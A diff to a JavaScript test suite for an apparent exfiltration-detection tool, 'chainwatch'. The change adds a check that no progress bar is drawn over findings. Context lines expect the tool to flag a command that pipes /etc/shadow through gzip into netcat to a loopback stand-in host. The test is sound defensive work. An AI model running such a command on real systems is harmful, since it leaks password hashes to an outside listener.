@@ -27,6 +27,11 @@ describe('chainwatch replay', () => {
     expect(tty).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \x1b\[31mHIGH\x1b\[0m +exfil\.read-then-transmit  task pipeline-gzip-nc\n/);
     expect(tty).toMatch(/\n  process    nc -N 127\.0\.0\.2 \d+  \[pid \d+, \/usr\/bin\/nc\]\n  started by bash -c 'cat \/etc\/shadow \| gzip \| nc -N 127\.0\.0\.2 \d+'  \[pid \d+, \/usr\/bin\/bash\]\n/);
     expect(onTerminal([trace], { NO_COLOR: '1' })).not.toContain('\x1b');
+    // with stderr on the same terminal, no progress bar is drawn through the findings
+    const both = spawnSync('script', ['-qec', `'${process.execPath}' '${cli}' replay '${trace}' --no-audit`, '/dev/null'], { encoding: 'utf8' });
+    expect(both.status).toBe(0);
+    expect(both.stdout).toContain('exfil.read-then-transmit  task pipeline-gzip-nc');
+    expect(both.stdout).not.toMatch(/[░█]|\| *\d+%/);
     expect(Finding.parse(JSON.parse(onTerminal([trace, '--findings-format', 'json']).trim())).rule).toBe('exfil.read-then-transmit');
     const piped = run(trace, '--findings-format', 'text');
     expect(piped.status).toBe(0);
